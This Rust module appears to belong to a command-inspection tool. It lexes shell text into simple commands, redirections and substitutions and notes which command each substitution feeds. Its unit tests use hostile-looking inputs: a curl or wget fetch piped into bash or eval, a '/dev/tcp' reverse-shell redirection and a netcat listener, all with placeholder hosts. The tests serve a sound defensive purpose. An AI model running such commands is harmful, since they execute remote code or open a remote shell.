//! Splits a shell line into simple commands, iteratively.
//!
//! Quotes, escapes, pipes, lists, redirections and substitutions are followed;
//! here-documents and control flow are read as if their lines were commands.
//! Source for the token rules: POSIX.1-2024, Shell Command Language, 2.2-2.7.

use crate::render::base_name;

/// Open substitutions that are followed; deeper ones count as separators.
const MAX_DEPTH: usize = 32;
const MAX_COMMANDS: usize = 256;

/// One program with its arguments, or one builtin.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Command {
    pub(crate) words: Vec<String>,
    pub(crate) redirects: Vec<Redirect>,
    /// Commands joined by `|` share the number, in order.
    pub(crate) pipeline: usize,
    /// The command whose argument this one's output becomes (`$( )`, `<( )`).
    pub(crate) feeds: Option<String>,
}

/// A redirection such as `>>` with its target.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Redirect {
    pub(crate) writes: bool,
    pub(crate) target: String,
}

impl Command {
    pub(crate) fn of_words(words: Vec<String>) -> Self {
        Self {
            words,
            ..Self::default()
        }
    }

    /// The program's name without its path, wrappers such as `sudo` skipped.
    pub(crate) fn name(&self) -> &str {
        self.words[self.program_idx()..]
            .first()
            .map_or("", |word| base_name(word).trim_start_matches('-'))
    }

    /// The program as it is written.
    pub(crate) fn program(&self) -> &str {
        self.words
            .get(self.program_idx())
            .map_or("", String::as_str)
    }

    /// What follows the program.
    pub(crate) fn arguments(&self) -> &[String] {
        self.words.get(self.program_idx() + 1..).unwrap_or_default()
    }

    pub(crate) fn has_argument(&self, wanted: &[&str]) -> bool {
        self.arguments()
            .iter()
            .any(|arg| wanted.contains(&arg.as_str()))
    }

    /// Whether a one-letter option is given, alone or in a cluster.
    pub(crate) fn has_flag(&self, letter: char) -> bool {
        self.arguments()
            .iter()
            .any(|arg| arg.starts_with('-') && !arg.starts_with("--") && arg.contains(letter))
    }

    fn program_idx(&self) -> usize {
        let mut idx = 0;
        while idx < self.words.len() {
            let word = &self.words[idx];
            if is_assignment(word) || is_keyword(word) {
                idx += 1;
                continue;
            }
            if !is_wrapper(base_name(word)) {
                return idx;
            }
            let mut next = idx + 1;
            while let Some(option) = self.words.get(next) {
                let duration = option.starts_with(|c: char| c.is_ascii_digit());
                if !option.starts_with('-') && !duration && !is_assignment(option) {
                    break;
                }
                // Options that take a value in the next word.
                let takes_value = matches!(
                    option.as_str(),
                    "-u" | "-g" | "-n" | "-s" | "-k" | "-I" | "-L" | "-P" | "-C" | "-o" | "-e"
                );
                next += 1 + usize::from(takes_value);
            }
            if next >= self.words.len() {
                return idx;
            }
            idx = next;
        }
        self.words.len()
    }
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && !name.starts_with(|c: char| c.is_ascii_digit())
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
    })
}

fn is_keyword(word: &str) -> bool {
    matches!(
        word,
        "if" | "then" | "else" | "elif" | "do" | "while" | "until" | "!" | "{" | "}" | "time"
    )
}

fn is_wrapper(name: &str) -> bool {
    matches!(
        name,
        "sudo"
            | "doas"
            | "env"
            | "nohup"
            | "nice"
            | "ionice"
            | "timeout"
            | "setsid"
            | "stdbuf"
            | "command"
            | "builtin"
            | "exec"
            | "busybox"
            | "toybox"
            | "xargs"
            | "watch"
            | "script"
            | "unbuffer"
            | "strace"
            | "ltrace"
            | "faketime"
            | "proxychains"
            | "proxychains4"
    )
}

/// What is open around the character being read.
#[derive(Default)]
struct Frame {
    command: Command,
    word: String,
    in_word: bool,
    in_double: bool,
    redirect_writes: Option<bool>,
    /// The number of the pipeline of `command`.
    pipeline: usize,
}

impl Frame {
    fn end_word(&mut self) {
        if !self.in_word {
            return;
        }
        self.in_word = false;
        let word = std::mem::take(&mut self.word);
        match self.redirect_writes.take() {
            Some(writes) => self.command.redirects.push(Redirect {
                writes,
                target: word,
            }),
            None => self.command.words.push(word),
        }
    }
}

/// The simple commands of a shell text, in order of their end. `incomplete` is set
/// if a cap was reached.
pub(crate) fn commands_of(text: &str, incomplete: &mut bool) -> Vec<Command> {
    let mut lexer = Lexer {
        done: Vec::new(),
        open: vec![Frame::default()],
        n_pipelines: 1,
        too_deep: false,
    };
    let mut chars = text.chars().peekable();
    while let Some(character) = chars.next() {
        if lexer.done.len() >= MAX_COMMANDS {
            *incomplete = true;
            break;
        }
        let next = chars.peek().copied();
        if lexer.step(character, next, &mut chars) {
            chars.next();
        }
    }
    while lexer.open.len() > 1 {
        lexer.close();
    }
    lexer.end_command(false);
    *incomplete |= lexer.too_deep;
    lexer.done
}

struct Lexer {
    done: Vec<Command>,
    /// Never empty.
    open: Vec<Frame>,
    n_pipelines: usize,
    /// Whether a substitution was not followed.
    too_deep: bool,
}

impl Lexer {
    fn frame(&mut self) -> &mut Frame {
        self.open.last_mut().expect("the outermost frame stays")
    }

    /// Takes one character; true if `next` belongs to it and is to be skipped.
    fn step(
        &mut self,
        character: char,
        next: Option<char>,
        rest: &mut std::iter::Peekable<std::str::Chars<'_>>,
    ) -> bool {
        let in_double = self.frame().in_double;
        match (character, next) {
            ('\\', Some('\n')) => return true,
            ('\\', Some(escaped)) => {
                self.push(escaped);
                return true;
            }
            ('$' | '<' | '>', Some('(')) if character == '$' || !in_double => {
                self.open_substitution();
                return true;
            }
            ('`', _) => self.backtick(),
            (')', _) if !in_double && self.open.len() > 1 => self.close(),
            ('"', _) => {
                let frame = self.frame();
                frame.in_double = !in_double;
                frame.in_word = true;
            }
            (_, _) if in_double => self.push(character),
            ('\'', _) => {
                self.frame().in_word = true;
                for quoted in rest.by_ref() {
                    if quoted == '\'' {
                        break;
                    }
                    self.push(quoted);
                }
            }
            ('|', Some('|')) => {
                self.end_command(false);
                return true;
            }
            ('|', Some('&')) => {
                self.end_command(true);
                return true;
            }
            ('|', _) => self.end_command(true),
            ('&', Some('>')) => self.frame().end_word(),
            ('&', Some('&')) => {
                self.end_command(false);
                return true;
            }
            ('&' | ';' | '\n' | '(' | ')', _) => self.end_command(false),
            ('<' | '>', _) => return self.redirect(character, next),
            ('#', _) if !self.frame().in_word => {
                for skipped in rest.by_ref() {
                    if skipped == '\n' {
                        break;
                    }
                }
                self.end_command(false);
            }
            (blank, _) if blank.is_whitespace() => self.frame().end_word(),
            _ => self.push(character),
        }
        false
    }

    fn push(&mut self, character: char) {
        let frame = self.frame();
        frame.in_word = true;
        frame.word.push(character);
    }

    /// `<`, `>` and their two-character forms.
    fn redirect(&mut self, character: char, next: Option<char>) -> bool {
        let frame = self.frame();
        if frame.word.bytes().all(|b| b.is_ascii_digit()) {
            // The number of a file descriptor, not an argument.
            frame.word.clear();
            frame.in_word = false;
        }
        frame.end_word();
        let writes = character == '>' || next == Some('>');
        frame.redirect_writes = Some(frame.redirect_writes.unwrap_or(false) || writes);
        matches!(next, Some('>' | '<' | '&' | '|'))
    }

    fn open_substitution(&mut self) {
        if self.open.len() >= MAX_DEPTH {
            self.too_deep = true;
            self.end_command(false);
            return;
        }
        self.frame().in_word = true;
        let pipeline = self.n_pipelines;
        self.n_pipelines += 1;
        let outer = self.frame().command.name().to_owned();
        self.open.push(Frame {
            command: Command {
                feeds: Some(outer),
                ..Command::default()
            },
            pipeline,
            ..Frame::default()
        });
    }

    /// A backtick closes the innermost substitution if one is open.
    fn backtick(&mut self) {
        let open_by_backtick = self.open.len() > 1;
        if open_by_backtick {
            self.close();
        } else {
            self.open_substitution();
        }
    }

    fn close(&mut self) {
        self.end_command(false);
        self.open.pop();
    }

    fn end_command(&mut self, piped: bool) {
        let fresh = self.n_pipelines;
        let frame = self.frame();
        frame.end_word();
        frame.redirect_writes = None;
        let feeds = frame.command.feeds.clone();
        let mut command = std::mem::take(&mut frame.command);
        command.pipeline = frame.pipeline;
        frame.command.feeds = feeds;
        if !piped {
            frame.pipeline = fresh;
            self.n_pipelines += 1;
        }
        if !command.words.is_empty() || !command.redirects.is_empty() {
            self.done.push(command);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str) -> Vec<Command> {
        commands_of(text, &mut false)
    }

    fn check(text: &str, expected: &[&[&str]]) {
        let words: Vec<Vec<String>> = read(text).into_iter().map(|c| c.words).collect();
        assert_eq!(words, expected, "{text}");
    }

    #[test]
    fn lists_pipes_and_quotes_are_split_as_a_shell_does() {
        check("a 'b c' \"d e\" f\\ g", &[&["a", "b c", "d e", "f g"]]);
        check(
            "a|b && c;d & e # f\ng",
            &[&["a"], &["b"], &["c"], &["d"], &["e"], &["g"]],
        );
        check("x=1 y", &[&["x=1", "y"]]);
        check("(a; b)", &[&["a"], &["b"]]);
    }

    #[test]
    fn substitutions_name_what_they_feed() {
        let commands = read("bash -c \"$(curl -s u | tr a b)\" end");
        let curl = commands.iter().find(|c| c.name() == "curl").unwrap();
        assert_eq!(curl.feeds.as_deref(), Some("bash"));
        let tr = commands.iter().find(|c| c.name() == "tr").unwrap();
        assert_eq!(curl.pipeline, tr.pipeline);
        let bash = commands.iter().find(|c| c.name() == "bash").unwrap();
        assert_eq!(bash.words, ["bash", "-c", "", "end"]);
        assert_ne!(bash.pipeline, tr.pipeline);
        let old = read("eval `wget -qO- u`");
        assert_eq!(old[0].feeds.as_deref(), Some("eval"));
    }

    #[test]
    fn redirections_are_not_arguments() {
        let commands = read("bash -i >& /dev/tcp/h/1 0>&1 2>/dev/null < in");
        assert_eq!(commands[0].words, ["bash", "-i"]);
        let targets: Vec<(bool, &str)> = commands[0]
            .redirects
            .iter()
            .map(|r| (r.writes, r.target.as_str()))
            .collect();
        assert_eq!(
            targets,
            [
                (true, "/dev/tcp/h/1"),
                (true, "1"),
                (true, "/dev/null"),
                (false, "in")
            ]
        );
    }

    #[test]
    fn wrappers_are_skipped_when_a_program_is_named() {
        for (text, name) in [
            ("sudo -u www-data env A=b /usr/bin/nc -l", "nc"),
            ("timeout 5 nohup sh x", "sh"),
            ("FOO=1 make", "make"),
            ("if grep -q a b", "grep"),
            ("sudo", "sudo"),
        ] {
            assert_eq!(read(text)[0].name(), name, "{text}");
        }
    }
}
